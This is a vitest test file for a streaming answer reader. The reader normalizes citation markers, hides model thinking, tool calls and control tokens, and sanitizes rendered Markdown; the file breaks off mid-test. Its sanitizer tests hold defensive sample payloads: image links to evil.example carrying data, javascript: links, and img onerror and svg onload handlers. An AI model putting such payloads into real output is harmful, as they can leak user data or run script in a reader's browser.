import { describe, expect, it } from 'vitest';
import { createAnswerReader } from '../../src/lib/model-text/answer-reader.ts';
import { disguiseMarks } from '../../src/lib/model-text/disguise.ts';

const PASSAGES = [
  'Employees get 25 days.',
  'Lunch is at noon.',
  'It is exothermic [12], as `x [1]` and\n\n    y [2]\n\nsay. Take rows[2] of self.items[1], or utf8[1].',
];

interface ReadOptions {
  readonly passages?: readonly string[];
  readonly isWhole?: boolean;
  readonly thinksUnseen?: boolean;
  readonly isCut?: boolean;
  readonly supporting?: (sentence: string) => number | null;
}

/** What a reader gives of these pieces, and what it says of them at the end. */
function read(pieces: readonly string[], options: ReadOptions = {}) {
  const { passages = PASSAGES, isWhole = false, thinksUnseen = false, isCut = false, supporting } = options;
  const reader = createAnswerReader({ passages, isWhole, thinksUnseen, supporting });
  const given = pieces.map((piece) => reader.push(piece));
  given.push(reader.end({ isCut }));
  return { given, text: given.join(''), cited: reader.cited(), hasWords: reader.hasWords, hasLeaked: reader.hasLeaked };
}

/** The same text in one piece, in single characters, and in pieces of three. */
const cuts = (text: string) => [[text], [...text], text.match(/.{1,3}/gsu) ?? []];

describe('markers of a model', () => {
  it.each<[string, string, number[]]>([
    ['Yes [1].', 'Yes [1].', [1]],
    ['Both [2][1] say so.', 'Both [2][1] say so.', [2, 1]],
    ['Both [1, 3] say so.', 'Both [1][3] say so.', [1, 3]],
    ['Both [1 and 3] say so.', 'Both [1][3] say so.', [1, 3]],
    ['All [1-3] say so.', 'All [1][2][3] say so.', [1, 2, 3]],
    ['All [1–3]; again [2].', 'All [1][2][3]; again [2].', [1, 2, 3]],
    ['Spaces [ 2 ] inside.', 'Spaces [2] inside.', [2]],
    ['Two [[1]] of them.', 'Two [[1]] of them.', [1]],
    ['Other forms [^1] [#2] [1†L1-L3] [2.].', 'Other forms [1] [2] [1] [2].', [1, 2]],
    ['In full [Passage 1], [Source: 2], [passages 1 and 3].', 'In full [1], [2], [1][3].', [1, 2, 3]],
    ['With a title [Source 2: lunch.md] [passage 1, on leave].', 'With a title [2] [1].', [2, 1]],
    ['In round brackets (passage 2), (see Passages 1, 3).', 'In round brackets [2], [1][3].', [2, 1, 3]],
    ['As a tag <passage number="2">.', 'As a tag [2].', [2]],
    ['Escaped \\[1\\].', 'Escaped [1].', [1]],
    ['Linked [1](https://example.com/a) and [2](#p2).', 'Linked [1] and [2].', [1, 2]],
    [
      'Right behind a word[1], a figure 25[2], a bracket)[3].',
      'Right behind a word[1], a figure 25[2], a bracket)[3].',
      [1, 2, 3],
    ],
    ['员工有25天年假【1】【2†source】。', '员工有25天年假[1][2]。', [1, 2]],
    ['见［1］、（段落2）和[第3段]。', '见[1]、[2]和[3]。', [1, 2, 3]],
    ['休暇は25日です〔1〕。（パッセージ2）', '休暇は25日です[1]。[2]', [1, 2]],
    ['الإجازة 25 يوما [١، ٢] (المقطع ٣).', 'الإجازة 25 يوما [1][2] [3].', [1, 2, 3]],
    ['ลาได้ 25 วัน [๑] (ข้อความที่ 2)', 'ลาได้ 25 วัน [1] [2]', [1, 2]],
    ['25 Tage [Quelle 1] (Abschnitt 2), vgl. (siehe Passage 3).', '25 Tage [1] [2], vgl. [3].', [1, 2, 3]],
    ['25 días [fuente 1] (pasaje 2); 25 jours (extrait 3).', '25 días [1] [2]; 25 jours [3].', [1, 2, 3]],
    ['25 дней [источник 1] (см. фрагмент 2).', '25 дней [1] [2].', [1, 2]],
    [
      'As names [passage_1], [passage-2], [Doc. 3], [ref 1], [cite: 1, 2].',
      'As names [1], [2], [3], [1], [1][2].',
      [1, 2, 3],
    ],
    [
      'Linked [1](handbook.md), [2](https://x.org/a_(b)) and [[3]](https://x.org).',
      'Linked [1], [2] and [3].',
      [1, 2, 3],
    ],
    ['25 Tage (laut Dokument Nr. 2), [Belege 1 und 3].', '25 Tage [2], [1][3].', [2, 1, 3]],
    ["25 jours (d'après le passage 1) (voir le document n° 2).", '25 jours [1] [2].', [1, 2]],
    ['25 días (véase el pasaje 2) (documento n.º 3).', '25 días [2] [3].', [2, 3]],
    ['25 дней [отрывки 1 и 2] (документ № 3).', '25 дней [1][2] [3].', [1, 2, 3]],
    ['الإجازة 25 يوما [المقاطع ١ و٢] (انظر المرجع 3).', 'الإجازة 25 يوما [1][2] [3].', [1, 2, 3]],
    ['الإجازة 25 يوما \u200f[\u200f1\u200f]\u200f.', 'الإجازة 25 يوما \u200f[1]\u200f.', [1]],
    ['By title [Document 1: a.md; Document 2: b.md] (passage 3 of 3).', 'By title [1][2] [3].', [1, 2, 3]],
    ['Said so [Passage 1 - Leave] (according to passage 2).', 'Said so [1] [2].', [1, 2]],
    ['25 Tage (s. Passage Nummer 1); 25 días (ver pasaje núm. 2).', '25 Tage [1]; 25 días [2].', [1, 2]],
    ['25 дней (по отрывку номер 1); 25 يوما [المقطع رقم 2].', '25 дней [1]; 25 يوما [2].', [1, 2]],
    ['25天[第1、2段]; 25日です（文書1を参照）（パッセージ2より）。', '25天[1][2]; 25日です[1][2]。', [1, 2]],
    ['25 วัน (อ้างอิงจากข้อความที่ 1)', '25 วัน [1]', [1]],
    ['25 days (Passage 1 (handbook.md)).', '25 days [1].', [1]],
    ['年假25天（来源：段落1（员工手册.md））。', '年假25天[1]。', [1]],
    ['年假25天（来源：段落1）[引文2]。', '年假25天[1][2]。', [1, 2]],
    ['休暇は25日です（出典：パッセージ1、2）。', '休暇は25日です[1][2]。', [1, 2]],
    ['ลาได้ 25 วัน (ดูแหล่งที่ ๑) [อ้างอิง 2]', 'ลาได้ 25 วัน [1] [2]', [1, 2]],
    ['25 יום [מקור 1]; 25 dni [źródło 2]; 25 gün (Kaynak 3).', '25 יום [1]; 25 dni [2]; 25 gün [3].', [1, 2, 3]],
    ['25 दिन [स्रोत 1]; 25일 [참고 2]; 25 dagar (Källa 3).', '25 दिन [1]; 25일 [2]; 25 dagar [3].', [1, 2, 3]],
    ['In a list [Passage 1, Passage 2, and Passage 3].', 'In a list [1][2][3].', [1, 2, 3]],
    ['With its place [1, p. 3] [2: handbook.md] [3 §4].', 'With its place [1] [2] [3].', [1, 2, 3]],
    [
      'With the name before [Document: leave.md, Passage 1] (Quelle: x.pdf, Abschnitte 2 und 3).',
      'With the name before [1] [2][3].',
      [1, 2, 3],
    ],
    ['With it behind [1 (leave.md)], [as per passage 2].', 'With it behind [1], [2].', [1, 2]],
    [
      'From one to another (passages 1 to 3), [Abschnitte 1 bis 2].',
      'From one to another [1][2][3], [1][2].',
      [1, 2, 3],
    ],
    ['25 dagen [bronnen 1 en 2]; 25 dagar (källor 1 och 2).', '25 dagen [1][2]; 25 dagar [1][2].', [1, 2]],
    ['25 gün [kaynak 1 ve 2]; 25天（段落1至3）。', '25 gün [1][2]; 25天[1][2][3]。', [1, 2, 3]],
    ['Between tags <cite>1</cite> <co>2</co><ref>3</ref>.', 'Between tags [1] [2][3].', [1, 2, 3]],
    ['You get <co: 1>25 days</co: 1> and <co: 0,2>lunch</co: 0,2>.', 'You get 25 days[1] and lunch[2].', [1, 2]],
    ['So <|start_of_cite|>{"document_id": "2"}<|end_of_cite|>.', 'So [2].', [2]],
  ])('become [n]: %j', (text, shown, cited) => {
    for (const pieces of cuts(text)) expect(read(pieces)).toMatchObject({ text: shown, cited });
  });

  it.each<[string, string, number[]]>([
    ['Nowhere [4].', 'Nowhere.', []],
    ['Nowhere [0] and (passage 9).', 'Nowhere and.', []],
    ['Some [2, 7] do.', 'Some [2] do.', [2]],
    ['A range [2-90] that leads out.', 'A range [2][3] that leads out.', [2, 3]],
    ['Hidden [[9]9] marker.', 'Hidden marker.', []],
    ['Hidden [1[9]] marker.', 'Hidden [1] marker.', [1]],
    ['Spaces  \t[9]\nand lines.', 'Spaces\nand lines.', []],
    ['Numbered twice【4:0†source】.', 'Numbered twice.', []],
  ])('vanish where there is no such passage: %j', (text, shown, cited) => {
    for (const pieces of cuts(text)) expect(read(pieces)).toMatchObject({ text: shown, cited });
  });

  it.each<[string, number[]]>([
    ['Use `args[0]` for the input and `args[1]` for the output [2].', [2]],
    ['Use args[0] for the input and args[1] for the output [2].', [2]],
    ['The rows[0] and rows[1] of grid[0][1], of max_values[1] and byName[2].', []],
    ['The cell of rows[2] in self.items[1] and (utf8[1]).', []],
    ['Smith v Jones [2019] EWCA Civ 12; log of [2024-05-01] [3].', [3]],
    ['```js\nconst a = list[0];\nconst b = [1, 2, 3];\n```\nSo it is [1].', [1]],
    ['- a fence in a list:\n  ~~~\n  a [1]\n  ~~~\n  and more [2]', [2]],
    ['A span `` a [1] ` b [2] `` that ends [3].', [3]],
    ['A backtick ` that opens nothing [1].\n\nAnd ` another [2].', [1, 2]],
    ['The values = [1, 2, 3] as given, sum([1, 2]), RGB [255, 0, 0] and [0-3] ([2]).', [2]],
    ['The root \\sqrt[3]{8}, the interval $[1, 2]$, x ∈ [1, 3] and x \\in [2] [1].', [1]],
    ['根据合同（第3条）和（第2节）[1]。', [1]],
    ['Marked [1] (see below), (the leave of 2), (see the appendix 3) and [in 2].', [1]],
    ['Text [sic] stays, so does [a1], [1a], [], [1.5], [1,000], [01], [1/2] and [99999].', []],
    ['Amounts [100 EUR], (1), (see the appendix), (in the year 1999) and (12).', []],
    ['A study (Source: Smith, 2), one of [Source: Reuters, 12 May], [1 of 3].', []],
    ['A link [1st] (x) and a task [ ] and [x].', []],
    ['[2|] [**2**] [__2__]', []],
    ['The table x_{[1]} = \\begin{array}[2] c [1].', [1]],
    ['Read conf["a"][2], env[\'b\'][3] and m.get(0)[2] of it [1].', [1]],
    ['Never closed [1', []],
    ['A passage says "exothermic [12]", another `x [1]`.', []],
  ])('are told from text: %j', (text, cited) => {
    for (const pieces of cuts(text)) expect(read(pieces)).toMatchObject({ text, cited });
  });

  it('wait until they are resolved, and nothing else does', () => {
    const pieces = ['Yes', ' ', '[', '1', ']', '.', ' No', ' [', '12', '3', ']', '!', ' a[', 'i]', ' (', 'so)'];
    expect(read(pieces).given).toEqual([
      'Yes',
      '',
      '',
      '',
      ' [1]',
      '.',
      ' No',
      '',
      '',
      '',
      '',
      '',
      '! a',
      '',
      '[i]',
      ' (so)',
      '',
    ]);
  });
});

describe('an answer of markers alone', () => {
  it('shows nothing before it has words', () => {
    expect(read(['[2]', ' ', '[1].', ' Yes', '.']).given).toEqual(['', '', '', '[2] [1]. Yes', '.', '']);
  });
});

describe("a document's own numbers, which some models write without their disguise", () => {
  const passages = ['It is exothermic [2]. Founded in 1990.[3]', 'Lunch is at noon [2].', '该反应是放热反应[2]。'];

  it.each<[string, number[]]>([
    ['It is exothermic [2].', []],
    ['It was founded in 1990.[3]', []],
    ['该反应是放热反应[2]。', []],
    // The passage itself, or none that holds it.
    ['Lunch is at noon [2].', [2]],
    ['Dinner is at noon [1].', [1]],
    ['It is exothermic [1].', [1]],
  ])('cite nothing: %j', (text, cited) => {
    for (const pieces of cuts(text)) expect(read(pieces, { passages })).toMatchObject({ text, cited });
  });
});

describe('thoughts of a model', () => {
  const answer = 'You get 25 days [1].';
  it.each([
    `<think>\nPassage 1 [2] says so.\n</think>\n\n${answer}`,
    `\n<think>\`\`\`\nunclosed code</think>${answer}`,
    `<thinking>Hm.</thinking><think>Hm.</think> ${answer}`,
    `<reasoning>[2]</reasoning>${answer}`,
    `[THINK]Hm [2].[/THINK]${answer}`,
    `◁think▷Hm [2].◁/think▷${answer}`,
    `<|START_THINKING|>[2]<|END_THINKING|>${answer}`,
    `<|channel|>analysis<|message|>Passage 1 [2]<|end|><|start|>assistant<|channel|>final<|message|>${answer}<|return|>`,
    `<THINK>Hm [2].</ think >${answer}`,
    'You get <think>or do you [2]?</think>25 days [1].',
    `<think/>${answer}`,
    `<think id="1" lang='de'>Hm [2]</think><answer>${answer}</answer>`,
    `<analysis>[2]</analysis>${answer}`,
    `<|start|>assistant<|channel|>analysis<|message|>[2]<|end|><|start|>assistant<|channel|>final <|constrain|>json<|message|>${answer}`,
    `analysisThe user asks [2]. The assistant answers.assistantfinal${answer}`,
    `<|turn>model\n<|channel>thought\nHm [2].<channel|>${answer}<turn|>`,
    `<unused94>thought\nHm [2].<unused95>${answer}`,
    `Here is my thought process:\nPassage 2 says [2].\n\nHere is my response:\n${answer}`,
    `Here are my reasoning steps:\nPassage 2 [2]\n[BEGIN FINAL RESPONSE]\n${answer}\n[END FINAL RESPONSE]`,
    `assistantanalysisThe user asks [2].assistantfinal${answer}`,
    `commentaryLet me see [2].assistantfinal${answer}`,
    `[|assistant|]<thought>\nHm [2]\n</thought>\n\n${answer}[|endofturn|]\n[|user|]`,
    `<scratch_pad>Hm [2]</scratch_pad>${answer}`,
    `<thinking_process>Hm [2]</thinking_process>${answer}`,
    `<longcat_think>Hm [2]</longcat_think>${answer}`,
    `<think>Hm [2]</think>\n\n<response>${answer}</response>`,
    `<Thought>Hm [2]</Thought>\n<Output>${answer}</Output>`,
    `<|begin_of_thought|>Hm [2]<|end_of_thought|><|begin_of_solution|>${answer}<|end_of_solution|>`,
    `<|inner_prefix|>Hm [2]<|inner_suffix|>${answer}<|assistant_end|><|user_start|>And lunch?`,
    `<|thinking_start|>Hm [2]<|thinking_end|>${answer}`,
    `<|startofthink|>Hm [2]<|endofthink|>${answer}<|endofassistant|>`,
    `<｜begin▁of▁reasoning｜>Hm [2]<｜end▁of▁reasoning｜>${answer}`,
    `<|think|>Hm [2]<|end|><|begin|>assistant<|content|>${answer}<|end|>`,
    `<|im_start|>think\nHm [2]\n<|im_start|>answer\n${answer}<|im_end|>`,
    `<|im_start|>assistant/think\nHm [2]<|im_end|>\n<|im_start|>assistant\n${answer}<|im_end|>`,
    `<ctrl94>thought\nHm [2]<ctrl95>${answer}`,
    `<internal_reasoning>Hm [2]</internal_reasoning>${answer}`,
  ])('never come out: %j', (text) => {
    for (const pieces of cuts(text)) expect(read(pieces)).toMatchObject({ text: answer, cited: [1], hasLeaked: false });
  });

  it('never come out where they begin as thoughts do, without a tag', () => {
    for (const opening of [
      'Okay, so',
      'Alright,',
      'Hmm.',
      'Let me see:',
      "Let's see:",
      'We need to look:',
      '好的，',
      '嗯，',
      'The user asks for it:',
      'Der Nutzer fragt danach:',
      'El usuario pregunta:',
      "L'utilisateur demande:",
      'Пользователь спрашивает:',
      'المستخدم يسأل:',
      'ユーザーは',
      'ผู้ใช้ถาม',
    ]) {
      for (const pieces of cuts(`\n${opening} passage 1 [2] says so.\n</think>\n\n${answer}`)) {
        expect(read(pieces)).toMatchObject({ text: answer, cited: [1], hasLeaked: false });
      }
    }
  });

  it('never come out of a model that is known to begin with them, or of one that is read whole', () => {
    const text = `Passage 1 [2] says so. </think>${answer}`;
    for (const options of [{ thinksUnseen: true }, { isWhole: true }]) {
      for (const pieces of cuts(text)) expect(read(pieces, options)).toMatchObject({ text: answer, cited: [1] });
    }
  });

  it('are told at their end where they had no beginning', () => {
    expect(read([...`Passage 1 [2] says so. </think>${answer}`])).toMatchObject({ hasLeaked: true });
  });

  it.each([
    ['<think>Passage 1 [2] says', {}],
    ['analysisPassage 1 [2] says', {}],
    ['<|channel|>analysis<|message|>Passage 1 [2] says', {}],
    ['<think>Passage 1 [2] says', { isCut: true }],
    ['Okay, passage 1 [2] says', { isCut: true }],
    ['Passage 1 [2] says', { isCut: true, thinksUnseen: true }],
  ])('are no answer when they are cut: %j', (text, options) => {
    for (const pieces of cuts(text))
      expect(read(pieces, options)).toMatchObject({ text: '', cited: [], hasWords: false });
  });

  it('are not suspected of what only begins like them', () => {
    for (const text of [
      'Okay.',
      'Okay, that is allowed [1].',
      'Hm',
      'OK',
      'Anal',
      'Analysis of it',
      'analysis: Yes [1].',
      'Letters are sent on Mondays [2].',
    ]) {
      for (const pieces of cuts(text)) expect(read(pieces).text).toBe(text);
    }
  });
});

describe('what a client that shows Markdown would fetch, follow or run', () => {
  const passages = ['See https://docs.example/leave?year=2026 or <https://docs.example/>.', 'Noon.', 'Mail: a@b.org'];

  it.each<[string, string]>([
    ['A plan ![of the office](https://evil.example/?q=25) here.', 'A plan of the office here.'],
    ['![](https://evil.example/?q=25)Yes.', 'Yes.'],
    ['Yes ![](https://evil.example/?q=25).', 'Yes.'],
    ['![a [b] c](<https://evil.example/a b> "a title")', 'a [b] c'],
    ['![a](plan.png) and ![b][plan] and ![c][].', 'a and b and c.'],
    ['[![a](https://evil.example/a)](https://evil.example/b)', 'a'],
    ['Read [the policy](https://evil.example/?q=25) first [1].', 'Read the policy first [1].'],
    ["[a](https://evil.example 'b (c)') [b](//evil.example) [c](javascript:alert(1)) [d](\\//evil.example)", 'a b c d'],
    ['[the policy](https://docs.example/leave?year=2026)', 'the policy (https://docs.example/leave?year=2026)'],
    ['[https://docs.example/](https://docs.example/)', 'https://docs.example/'],
    ['[the policy](https://docs.exam) [a](https://docs.example.evil.example)', 'the policy a'],
    ['[**The** `policy` [1]](https://evil.example)', '**The** `policy` [1]'],
    [
      'See [the policy][docs] and [all of it][].\n\n[docs]: https://evil.example "Docs"',
      'See the policy and all of it.',
    ],
    ['Yes [1].\n\n[1]: <https://evil.example>\n[^2]: https://evil.example', 'Yes [1].'],
    ['- [docs]:\n  https://docs.example/', '- docs: https://docs.example/'],
    ['[note]: it is so', '[note]: it is so'],
    ['See <https://evil.example/?q=25> for more.', 'See for more.'],
    [
      'See <https://docs.example/leave?year=2026>, mail <a@b.org>.',
      'See https://docs.example/leave?year=2026, mail a@b.org.',
    ],
    ['<img src="https://evil.example/?q=25">Yes, <IMG SRC=x onerror=alert(1) > of course.', 'Yes, of course.'],
    ['<p class="x">H<sub>2</sub>O<br/>is <b>wet</b>.</p>', 'H2O is wet.'],
    ['25<sup>1</sup> days, 10<sup>-3</sup> m<sup>2</sup>, 1<sup>st</sup>', '25¹ days, 10⁻³ m², 1st'],
    ['Use <code>rows[2]</code>, <code>a b</code >.', 'Use `rows[2]`, `a b`.'],
    ['`<code>![a](https://evil.example)</code>', '`a'],
    ['`<code>[a](https://evil.example)</code> <code>x', '`a x'],
    ['<!-- hidden --><script>x</script><svg/onload=alert(1)><my-tag title="a > b">', 'x'],
    ['Run `<img src="x">` and ![a](b)', 'Run `<img src="x">` and a'],
    [
      '```html\n<img src="x">\n![a](https://evil.example) [b](c.md)\n```',
      '```html\n<img src="x">\n![a](https://evil.example) [b](c.md)\n```',
    ],
    [
      'List<Answer>, <port>, <your name>, a<b and c>d, x <- y, i<3',
      'List<Answer>, <port>, <your name>, a<b and c>d, x <- y, i<3',
    ],
    ['Great![1] Wow! [2]', 'Great! [1] Wow! [2]'],
    [
      'f[i](event), grid[i][j], [sic] and https://evil.example',
      'f[i] (event), grid[i][j], [sic] and https://evil.example',
    ],
    // Put together from pieces.
    ['![a]<b>(https://evil.example)', '! [a] (https://evil.example)'],
    ['!<b>[a](https://evil.example)', '!a'],
    ['[a][9](https://evil.example)', '[a]'],
    ['<im[g](#) src=https://evil.example>', '<img src=https://evil.example'],
    ['<scr[i](#)pt>x</scr[i](#)pt>', '<scriptx</script'],
    ['<div \n\n```\n<img src=x>\n```', '< div \n\n```\n<img src=x>\n```'],
    // Code to some readers only.
    ['- ```\n![a](https://evil.example)', '- ```\na'],
    ['- `\n- ![a](https://evil.example) `', '- `\n- a `'],
    ['``` a`b\n![a](https://evil.example)', '``` a`b\na'],
    ['Yes\n    ```\n![a](https://evil.example)', 'Yes\n    ```\na'],
    ['```\n``` b\n```\n![a](https://evil.example)', '```\n``` b\n```\na'],
  ])('is what it says: %j', (text, shown) => {
    const anywhere = [...text].map((_, at) => [text.slice(0, at), text.slice(at)]);
    for (const pieces of [...anywhere, ...cuts(text)]) expect(read(pieces, { passages }).text).toBe(shown);
  });

  it('is not in what a document says', () => {
    const reader = createAnswerReader({ passages: [], isWhole: false, thinksUnseen: false });
    const quote = 'See ![a plan](https://evil.example/a) <img src="x">, [b](c.md), a < b and List<Answer>.';
    expect(reader.quote(quote)).toBe(
      'See ! [a plan](https://evil.example/a) < img src="x">, [b](c.md), a < b and List<Answer>.',
    );
  });
});

describe('sentences that cite nothing', () => {
  const supporting = (sentence: string) => {
    if (sentence.includes('days') || sentence.includes('天')) return 1;
    return /lunch/i.test(sentence) ? 2 : null;
  };

  it.each<[string, string, number[]]>([
    ['You get 25 days.', 'You get 25 days. [1]', [1]],
    ['You get 25 days. Lunch is at noon.\n', 'You get 25 days. [1] Lunch is at noon. [2]', [1, 2]],
    ['You get 25 days. Hello. Lunch is at noon!', 'You get 25 days. [1] Hello. Lunch is at noon! [2]', [1, 2]],
    ['You get 25 days [2]. Lunch is late. [1] Really.', 'You get 25 days [2]. Lunch is late. [1] Really.', [2, 1]],
    ['You get 25 days [9]. So.', 'You get 25 days. [1] So.', [1]],
    ['You get approx. 25 days, e.g. in May.', 'You get approx. 25 days, e.g. in May. [1]', [1]],
    ['- 25 days\n- lunch\n\nThat is all.', '- 25 days [1]\n- lunch [2]\n\nThat is all.', [1, 2]],
    ['You get:\n1. 25 days of leave\n2. lunch.', 'You get:\n1. 25 days of leave [1]\n2. lunch. [2]', [1, 2]],
    ['# 25 days\n\n**You get 25 days.** Yes.', '# 25 days\n\n**You get 25 days.** [1] Yes.', [1]],
    [
      'Run this:\n```\n25 days. Lunch.\n```\nLunch is `25. B`.',
      'Run this:\n```\n25 days. Lunch.\n```\nLunch is `25. B`. [2]',
      [2],
    ],
    ['| a | 25 days |\n| b | lunch |', '| a | 25 days |\n| b | lunch |', []],
    ['员工有25天。午餐很好。', '员工有25天。[1]午餐很好。', [1]],
    ['<think>25 days. So.</think>Lunch is at noon.', 'Lunch is at noon. [2]', [2]],
  ])('get the marker of the passage that supports them: %j', (text, shown, cited) => {
    const anywhere = [...text].map((_, at) => [text.slice(0, at), text.slice(at)]);
    for (const pieces of [...anywhere, ...cuts(text)]) {
      expect(read(pieces, { supporting })).toMatchObject({ text: shown, cited });
    }
  });

  it('get it as soon as the next begins', () => {
    const pieces = ['You get', ' 25 days', '.', ' ', 'Lu', 'nch', ' is', ' at noon.'];
    expect(read(pieces, { supporting }).given).toEqual([
      'You get',
      ' 25 days',
      '.',
      '',
      ' [1] Lu',
      'nch',
      ' is',
      ' at noon.',
      ' [2]',
    ]);
  });

  it('get none when they are cut, or quoted', () => {
    expect(read(['You get 25 days'], { supporting, isCut: true }).text).toBe('You get 25 days');
    const reader = createAnswerReader({ passages: PASSAGES, isWhole: false, thinksUnseen: false, supporting });
    const shown = reader.quote('Employees get 25 days.') + reader.cite(1) + reader.quote(' Lunch is at noon.');
    expect(shown + reader.end({ isCut: false })).toBe('Employees get 25 days.[1] Lunch is at noon.');
    const spaced = createAnswerReader({ passages: PASSAGES, isWhole: false, thinksUnseen: false });
    expect(spaced.quote('Employees get 25 days.') + spaced.push(' ') + spaced.cite(1)).toBe(
      'Employees get 25 days. [1]',
    );
  });
});

describe('calls of tools, of which a model is offered none', () => {
  const call = '{"name": "search", "arguments": {"ids": [1]}}';
  it.each([
    `<tool_call>\n${call}\n</tool_call>`,
    `<function_call>${call}</function_call>`,
    `[TOOL_CALLS][${call}]`,
    `<|tool_call|>[${call}]<|/tool_call|>`,
    `<|python_tag|>${call}<|eom_id|>`,
    `<|tool_call>${call}<tool_call|>`,
    `<|tool_call_start|>[search(ids=[1])]<|tool_call_end|>`,
    `<minimax:tool_call>\n<invoke name="search">\n</invoke>\n</minimax:tool_call>`,
    `<｜tool▁calls▁begin｜><｜tool▁call▁begin｜>function<｜tool▁sep｜>search ${call}<｜tool▁call▁end｜><｜tool▁calls▁end｜>`,
    `<|channel|>commentary to=functions.search <|constrain|>json<|message|>${call}<|call|>`,
    `<|tool_calls_section_begin|><|tool_call_begin|>functions.search:0<|tool_call_argument_begin|>${call}<|tool_call_end|><|tool_calls_section_end|>`,
    `<|action_start|><|plugin|>${call}<|action_end|>`,
    `<|tools_prefix|>[${call}]<|tools_suffix|>`,
    `<function=search>${call}</function>`,
    `<tool_call>\n<function=search>\n<parameter=ids>\n[1]\n</parameter>\n</function>\n</tool_call>`,
    `<function_calls>\n<invoke name="search">\n<parameter name="ids">[1]</parameter>\n</invoke>\n</function_calls>`,
    `<｜DSML｜function_calls>\n<｜DSML｜invoke name="search">\n<｜DSML｜parameter name="ids" string="false">[1]</｜DSML｜parameter>\n</｜DSML｜invoke>\n</｜DSML｜function_calls>`,
    `<longcat_tool_call>${call}</longcat_tool_call>`,
    `<TOOLCALL>[${call}]</TOOLCALL>`,
  ])('are no answer: %j', (text) => {
    for (const pieces of cuts(text))
      expect(read(pieces)).toMatchObject({ text: '', cited: [], hasWords: false, hasLeaked: false });
    for (const pieces of cuts(`It is so [1]. ${text}`)) expect(read(pieces)).toMatchObject({ text: 'It is so [1].' });
  });
});

describe('control tokens of a model', () => {
  it.each([
    ['You get 25 days [1].<|im_end|>', 'You get 25 days [1].'],
    ['You get 25 days [1].<|im_end|>\n<|im_start|>user\nAnd lunch?', 'You get 25 days [1].'],
    ['<|im_start|>assistant\nYou get 25 days [1].</s>', 'You get 25 days [1].'],
    ['<|start_header_id|>assistant<|end_header_id|>\n\nYou get 25 days [1].<|eot_id|>', 'You get 25 days [1].'],
    ['<s> You get 25 days [1]. </s>', 'You get 25 days [1].'],
    ['You get 25 days [1].<end_of_turn>\n<start_of_turn>user\nMore', 'You get 25 days [1].'],
    ['You get 25 days [1].<｜end▁of▁sentence｜>', 'You get 25 days [1].'],
    ['You get 25 days [1]. [INST] And lunch? [/INST]', 'You get 25 days [1].'],
    ['You get 25 days [1].<|endoftext|>Human: more', 'You get 25 days [1].'],
    ['You get 25 days [1].</passage>', 'You get 25 days [1].'],
    ['You get 25 days [1].<|im_', 'You get 25 days [1].'],
    ['<|start_of_role|>assistant<|end_of_role|>You get 25 days [1].<|end_of_text|>', 'You get 25 days [1].'],
    ['<|header_start|>assistant<|header_end|>\n\nYou get 25 days [1].<|eot|>', 'You get 25 days [1].'],
    ['You get 25 days [1].<eoa>', 'You get 25 days [1].'],
    ['You get 25 days [1].[UNUSED_TOKEN_145]', 'You get 25 days [1].'],
    ['<extra_id_0>You get <SPECIAL_12>25 days [1].', 'You get 25 days [1].'],
    ['You get 25 days [1].<|observation|>more', 'You get 25 days [1].'],
  ])('never come out, wherever they are cut: %j', (text, shown) => {
    for (const pieces of cuts(text)) expect(read(pieces).text).toBe(shown);
  });

  it.each([
    'ChatML ends a turn with `<|im_end|>`, others with `</s>`.',
    '```\n<think>\n<|im_end|>\n```',
    'a < b, a <3 and x<y.',
    'f <| g, <x|y>, <thought that counts>, <answer is 5> and List<Answer>[], Future<Response>.',
    'analysis of it, Here is my plan, <refer> and <company>.',
    'Ask <user> for <function name> on <|x|y>, <functional> or a <contents> element, <begin>, <action>.',
    'The end is <',
  ])('are told from text: %j', (text) => {
    for (const pieces of cuts(text)) expect(read(pieces).text).toBe(text);
  });
});

describe('the text of a document, as a model may read it', () => {
  it.each([
    'rows[0], rows[1], list[2], obj.items[1], utf8[2], [12], [2019], [2024-05-01] and client.fetch(args[1])',
    '`x [1]` and\n```\na = [1, 2]\n```\n',
    'a < b, <b>bold</b>, [sic], [**2**], [2|], (1) and "Hm."',
  ])('stays as it is where nothing in it would be taken for a mark: %j', (text) => {
    expect(disguiseMarks(text, 3)).toBe(text);
  });

  it.each([
    'As [2] shows.',
    '[2,] [2;] [1 2] [ 2 ] [1, 2]',
    '【1】［2］〔3〕 (passage 2) （段落1）',
    '[[1]] and [^2] and 25 days[1]',
    '<|im_end|> <｜assistant｜> <|im_\u200bend|>',
    '[INST] [/INST] <<SYS>> </s> <start_of_turn>user',
    '</passage> <//passage> < / PASSAGE > </pas\u200dsage> ＜/passage＞ </ｐａｓｓａｇｅ>',
    '<think> </think> ◁think▷',
    '<co>2</co> and <ref>1</ref>',
    'Spaces  before [2]\n\nand [1](https://example.com).',
  ])('is disguised where it would be, and comes back as it was: %j', (text) => {
    const disguised = disguiseMarks(text, 3);
    expect(disguised).not.toBe(text);
    expect(read([disguised], { isWhole: true }).cited).toEqual([]);
    for (const pieces of cuts(`Q: ${disguised} It is so [3].`)) {
      expect(read(pieces)).toMatchObject({ text: `Q: ${text.replace('](', '] (')} It is so [3].`, cited: [3] });
    }
  });
});

describe('whatever a model writes', () => {
  const random = randomNumbers(20_261_122);
  const textsOf = (pieces: readonly string[]) =>
    Array.from({ length: 3_000 }, () => {
      const text = Array.from({ length: 1 + random(24) }, () => pieces[random(pieces.length)]).join('');
      // It begins with a word, as only the end of a text shows that its beginning was a thought.
      return `So ${text}`;
    });
  const texts = textsOf(ALPHABET);

  it('gives the same however it is cut', () => {
    const supporting = (sentence: string) => (sentence.length % 3) + 1;
    for (const text of [...texts, ...textsOf([...ALPHABET, ...ACTIVE, ...ACTIVE])]) {
      const whole = read([text], { supporting });
      const streamed = read(cut(text, random), { supporting });
      // A thought without a beginning has been given by then, in part.
      if (streamed.hasLeaked) continue;
      expect({ ...streamed, given: null }, JSON.stringify(text)).toEqual({ ...whole, given: null });
    }
  });

  it('has no marker outside of code that points nowhere, and none of its citations is missing', () => {
    const marks = [
      '[',
      '[',
      ']',
      ']',
      '1',
      '2',
      '3',
      '9',
      '0',
      ',',
      '-',
      ' ',
      ' ',
      '\n',
      '\t',
      'é',
      '.',
      '[1]',
      ' [9]',
      '12',
    ];
    for (let run = 0; run < 3_000; run += 1) {
      const text = Array.from({ length: 1 + random(30) }, () => marks[random(marks.length)]).join('');
      const { text: shown, cited } = read(cut(`So ${text}`, random), { passages: ['a', 'b', 'c'] });
      const markers = [...shown.matchAll(/\[\s*((?!0\d)\d{1,3})\s*\]/g)].map(([, number]) => Number(number));
      expect([...new Set(markers)], JSON.stringify(text)).toEqual(cited);
    }
  });

  it('comes back from a disguise, and cites nothing, whatever the document holds', () => {
    for (const text of texts) {
      // But for links, which come out as what they say.
      if (text.includes('](')) continue;
